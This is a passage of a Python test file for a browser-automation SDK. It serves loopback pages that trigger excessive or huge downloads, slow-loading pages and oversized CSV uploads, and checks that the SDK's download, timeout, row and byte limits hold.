        answer(handler, (f"<html><body>{links}<script>setTimeout(() => "
                         f"document.querySelectorAll('a').forEach(a => a.click()), 100)</script></body></html>").encode())

    settings = Settings(runs_dir=str(tmp_path), max_downloads=3, max_download_mb=4)
    host = BrowserHost(settings)
    with loopback(respond) as base:
        try:
            for page, what in (("/loop", "8 downloads in a loop"), ("/big", "two 3 MB downloads past a 4 MB limit")):
                run_dir = tmp_path / page.strip("/")
                env = await host.new_env(run_dir=run_dir)
                await env.reset(Task(intent="x", start_url=base + page))
                await env.page.wait_for_timeout(3000)
                for task in list(env._background):
                    try:
                        await task
                    except Exception:  # noqa: BLE001 - a cancelled download
                        pass
                folder = run_dir / "downloads"
                saved = sorted(p.name for p in folder.glob("*")) if folder.exists() else []
                with attack("limits", f"a page starts {what}", "max_downloads / max_download_mb"):
                    if page == "/loop":
                        assert len(saved) == 3, saved
                        assert sum("was refused" in text for kind, text in env._events if kind == "download") == 5
                    else:
                        assert len(saved) == 1, saved
                        assert any("max_download_mb" in w for w in env.warnings), env.warnings
                with attack("limits", f"the episode goes on after {what}", "it ends with page.download_limit"):
                    with pytest.raises(SiteFault) as ended:
                        await env.observe()
                    assert ended.value.failure.kind == "page.download_limit"
                    assert ("max_downloads" if page == "/loop" else "max_download_mb") in ended.value.failure.detail
                await env.close()
            # a new episode on the same environment starts with its limits whole again
            env = await host.new_env(run_dir=tmp_path / "again")
            await env.reset(Task(intent="x", start_url=base + "/calm"))
            assert (await env.observe()).url.endswith("/calm")
            await env.close()
        finally:
            await host.close()


@pytest.mark.slow
async def test_a_download_is_cut_while_it_streams_not_written_whole(tmp_path):
    """A page that downloads a 2 GB stream (1 MB every 10 ms, so the test sees it while it
    runs) under a 4 MB limit: the browser cancels it as its progress passes the room left, long
    before it is whole; nothing is kept and the episode ends with page.download_limit."""
    import asyncio
    import shutil
    import tempfile
    import time

    from owrl_sdk.browser import BrowserHost
    from owrl_sdk.config import Settings
    from owrl_sdk.failures import SiteFault
    from owrl_sdk.types import Task

    sent = [0]

    def respond(handler):
        if handler.path != "/big":
            answer(handler, b'<a id="d" href="/big" download>get</a><script>setTimeout(() => d.click(), 100)</script>')
            return
        stream_download(handler, sent)

    def disk_used() -> int:
        return shutil.disk_usage(tempfile.gettempdir()).used

    settings = Settings(runs_dir=str(tmp_path), max_download_mb=4)
    host = BrowserHost(settings)
    with loopback(respond) as base:
        try:
            env = await host.new_env(run_dir=tmp_path / "run")
            with attack("limits", "a 2 GB download under max_download_mb = 4", "cancelled while it streams"):
                before = disk_used()
                started = time.monotonic()
                await env.reset(Task(intent="x", start_url=base + "/"))
                while not any("cut at" in w for w in env.warnings) and time.monotonic() - started < 20:
                    await asyncio.sleep(0.1)
                cut_after = sent[0]
                await asyncio.sleep(1.0)
                assert any("cut at" in w for w in env.warnings), (env.warnings, sent[0])
                assert cut_after < 200 and sent[0] < 260, sent[0]  # of 2048 MB: stopped within a fraction
                assert disk_used() - before < 300 << 20
                for task in list(env._background):
                    try:
                        await task
                    except Exception:  # noqa: BLE001 - the cancelled download
                        pass
                folder = tmp_path / "run" / "downloads"
                assert not folder.exists() or not list(folder.iterdir())
                with pytest.raises(SiteFault) as ended:
                    await env.observe()
                assert ended.value.failure.kind == "page.download_limit"
            await env.close()
        finally:
            await host.close()


def test_a_flow_on_a_page_past_its_download_limit_ends_with_that_failure_kind(tmp_path):
    """Through the public API: the run's outcome names the limit, not a later action error."""
    from owrl_sdk import Agent
    from owrl_sdk.config import Settings

    def respond(handler):
        if handler.path.startswith("/file"):
            answer(handler, b"x" * 1000, "application/octet-stream",
                   (("Content-Disposition", f'attachment; filename="f{handler.path[-2:]}.bin"'),))
            return
        links = "".join(f'<a id="a{i}" href="/file-{i:02d}" download>f</a>' for i in range(6))
        answer(handler, (f"<html><body>{links}<button onclick=\"document.querySelectorAll('a')"
                         f".forEach(a => a.click())\">Export</button></body></html>").encode())

    flow = {"schema": "owrl.flow/1", "task": "export",
            "turns": [{"calls": [{"name": "click", "arguments": {"selector": "button"}}]},
                      {"calls": [{"name": "wait", "arguments": {"seconds": 2}}]},
                      {"calls": [{"name": "wait", "arguments": {"seconds": 1}}]},
                      {"calls": [{"name": "done"}]}]}
    with loopback(respond) as base:
        with attack("limits", "a flow's click starts 6 downloads past max_downloads = 2",
                    "the outcome is page.download_limit; 2 files kept"):
            agent = Agent(settings=Settings(runs_dir=str(tmp_path), max_downloads=2))
            trajectory = agent.run_flow_sync(flow, url=base + "/export")
            failure = trajectory.outcome.failure
            assert failure is not None and failure.kind == "page.download_limit", trajectory.outcome
            saved = list(tmp_path.glob("*/downloads/*"))
            assert len(saved) == 2, saved


# ------------------------------------------------------------------ limits: owrl inspect


@pytest.mark.slow
def test_owrl_inspect_stops_at_its_time_limit_and_prints_what_it_has(tmp_path):
    import subprocess
    import sys
    import time

    def respond(handler):
        if handler.path == "/hang":  # headers, then a body that never ends
            handler.send_response(200)
            handler.send_header("Content-Type", "text/html")
            handler.end_headers()
            handler.wfile.write(b"<html><body>")
            handler.wfile.flush()
            time.sleep(30)
            return
        if handler.path == "/block":  # what the page's synchronous request waits for
            time.sleep(0.18)
            answer(handler, b"ok")
            return
        buttons = "".join(f"<button>Item {i}</button>" for i in range(4000))
        # The page blocks its main thread 180 ms of every 200 ms (a synchronous request to a slow answer, which waits
        # without spending CPU, where a busy loop took up to three quarters of a core for the 20 s), so each of inspect's reads waits
        # its turn: the limit is reached however fast the machine is (an idle one chose all 357 listed selectors in
        # under 20 s).
        busy = ("<script>setInterval(() => { const r = new XMLHttpRequest(); r.open('GET', '/block', false); "
                "r.send(); }, 200)</script>")
        answer(handler, f"<html><head><title>Huge</title></head><body>{buttons}{busy}</body></html>".encode())

    with loopback(respond) as base:
        with attack("limits", "owrl inspect on a page of 4000 buttons", "--timeout: stops and prints what it read"):
            started = time.monotonic()
            done = subprocess.run([sys.executable, "-m", "owrl_sdk", "inspect", base + "/huge", "--no-snapshot",
                                   # 20 s: time to open the page and read its title on a loaded 2-core machine
                                   # (8 s was not, beside a test suite), far short of reading 4000 selectors
                                   "--timeout", "20"], cwd=tmp_path, capture_output=True, text=True, timeout=120)
            assert time.monotonic() - started < 60, "the limit did not hold"
            assert done.returncode == 0, done.stderr[-2000:]
            assert "page: Huge" in done.stdout and "stopped after 20 s:" in done.stderr
        with attack("limits", "owrl inspect on a page that never finishes loading", "one error line at the limit"):
            done = subprocess.run([sys.executable, "-m", "owrl_sdk", "inspect", base + "/hang", "--timeout", "5"],
                                  cwd=tmp_path, capture_output=True, text=True, timeout=120)
            assert done.returncode != 0 and "Traceback" not in done.stderr
            assert done.stderr.strip().splitlines()[-1].startswith("Error: "), done.stderr[-2000:]


# ------------------------------------------------------------------ 5, 12: rows past the cap


def test_a_csv_of_a_million_rows_is_refused_at_the_first_row_past_the_cap(tmp_path):
    import time
    import tracemalloc

    from owrl_sdk.flows.batch import read_rows
    from owrl_sdk.errors import UsageError

    for suffix, body in ((".csv", "q\n" + "\n".join(f"v{i}" for i in range(1_000_000)) + "\n"),
                         (".jsonl", "\n".join(json.dumps({"q": f"v{i}"}) for i in range(300_000)) + "\n")):
        path = tmp_path / f"rows{suffix}"
        path.write_text(body)
        with attack("batches", f"a {suffix} of {body.count(chr(10)):,} rows to owrl run --inputs",
                    "max_rows (10,000) applied while reading"):
            tracemalloc.start()
            started = time.perf_counter()
            with pytest.raises(UsageError, match="more than 10000 rows"):
                read_rows(path, max_rows=10_000)
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            assert peak < 200 * 1024 * 1024, peak  # the text itself, not a million row objects
            assert time.perf_counter() - started < 20
    assert len(read_rows(path, max_rows=300_000)) == 300_000


def test_the_server_keeps_answering_while_a_csv_at_its_byte_limit_is_read(tmp_path):
    import sys
    import time
    import urllib.request

    import psutil

    sys.path.insert(0, str(__import__("pathlib").Path(__file__).parents[1] / "serve"))
    from serve_support import Served

    from owrl_sdk.server.app import MAX_CSV_BYTES

    server = Served(tmp_path / "data").start()
    try:
        rows = ["q"]
        size = 2
        while size < MAX_CSV_BYTES - 16:
            rows.append(f"v{len(rows)}")
            size += len(rows[-1]) + 1
        csv_body = ("\n".join(rows) + "\n").encode()[:MAX_CSV_BYTES]
        flow = json.dumps({"task": "find {{input:q}}", "start_url": "https://example.com/",
                           "inputs": {"q": {"type": "string"}}, "turns": [{"calls": [{"name": "done"}]}]})
        boundary = "b0undary"
        form = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"flow\"\r\n\r\n{flow}\r\n"
                f"--{boundary}\r\nContent-Disposition: form-data; name=\"rows\"; filename=\"r.csv\"\r\n"
                f"Content-Type: text/csv\r\n\r\n").encode() + csv_body + f"\r\n--{boundary}--\r\n".encode()
        latencies: list[float] = []
        peak = [0]
        stop = threading.Event()
        proc = psutil.Process(server.proc.pid)

        def poll():
            while not stop.is_set():
                started = time.perf_counter()
                urllib.request.urlopen(server.base + "/health", timeout=10).read()
                latencies.append(time.perf_counter() - started)
                peak[0] = max(peak[0], proc.memory_info().rss)
                time.sleep(0.05)

        poller = threading.Thread(target=poll, daemon=True)
        poller.start()
        req = urllib.request.Request(server.base + "/v1/jobs/batch/csv", data=form, method="POST", headers={
            "Authorization": f"Bearer {server.token}", "Content-Type": f"multipart/form-data; boundary={boundary}"})
        with attack("server", f"a {len(csv_body) / 1e6:.1f} MB CSV upload of {len(rows) - 1:,} rows while /health "
                    "is polled", "the cap applied while reading, off the event loop"):
            try:
                urllib.request.urlopen(req, timeout=120)
                status = 201
            except urllib.error.HTTPError as err:
                status = err.code
                detail = err.read().decode()
            stop.set()
            poller.join(15)
            assert status == 422 and "10000" in detail, (status, detail)
            assert latencies and max(latencies) < 1.0, max(latencies)
            assert peak[0] < 300 * 1024 * 1024, peak[0] / 1e6
        over = form.replace(csv_body, csv_body + b"x" * (3 * MAX_CSV_BYTES - len(csv_body)))
        req = urllib.request.Request(server.base + "/v1/jobs/batch/csv", data=over, method="POST", headers={
            "Authorization": f"Bearer {server.token}", "Content-Type": f"multipart/form-data; boundary={boundary}"})
        with attack("server", "a CSV upload three times the CSV limit (inside the body limit)",
                    "copied in chunks, refused where it passes the limit, nothing left behind"):
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.urlopen(req, timeout=120)
            assert refused.value.code == 422
            assert f"over {MAX_CSV_BYTES} bytes" in refused.value.read().decode()
            assert not list((tmp_path / "data").rglob(".upload-*")), "a staging folder was left behind"
            assert not list((tmp_path / "data").rglob("rows.csv"))
    finally:
        server.stop()


# ------------------------------------------------------------------ 6: one flow per batch, not per row


def test_a_batch_holds_its_flow_once_whatever_its_row_count(tmp_path):
    import tracemalloc

    from owrl_sdk.flows.batch import Batch
    from owrl_sdk.config import Settings
    from owrl_sdk.formats.documents import Flow

    calls = [{"name": "click", "arguments": {"selector": f"#b{i}"}} for i in range(2000)]
    flow = Flow.model_validate({"task": "find {{input:q}}", "start_url": "https://shop.example/?q={{input:q}}",
                                "inputs": {"q": {"type": "string"}},
                                "turns": [{"calls": calls}, {"calls": [{"name": "done"}]}]})
    batch = Batch(flow, [{"q": f"item {i}"} for i in range(60)], out=tmp_path / "b",
                  settings=Settings(runs_dir=str(tmp_path)))
    with attack("server", "a 2,000-call flow x 60 rows as one batch", "the rows share one flow; each is filled "
                "when it runs"):
        tracemalloc.start()
        before = tracemalloc.get_traced_memory()[0]
        tasks = [batch.prepare(row) for row in batch.rows]
        held = tracemalloc.get_traced_memory()[0] - before
        tracemalloc.stop()
        assert held < 25 * 1024 * 1024, held / 1e6  # one flow and 60 small tasks, not 60 flows
        assert len({id(t.metadata["flow"]) for t in tasks}) == 1
    # the row's own flow is what the player runs
    import asyncio

    from owrl_sdk.flows.flowplayer import ScriptedPolicy
    from owrl_sdk.contract.memory import Context
    from owrl_sdk.types import Observation

    player = ScriptedPolicy(Settings(runs_dir=str(tmp_path)), flow=flow)
    asyncio.run(player.act(Context(task=tasks[7], observation=Observation(url="u"), tools=[])))
    assert player.flow.start_url == "https://shop.example/?q=item%207" and player.flow.task == "find item 7"
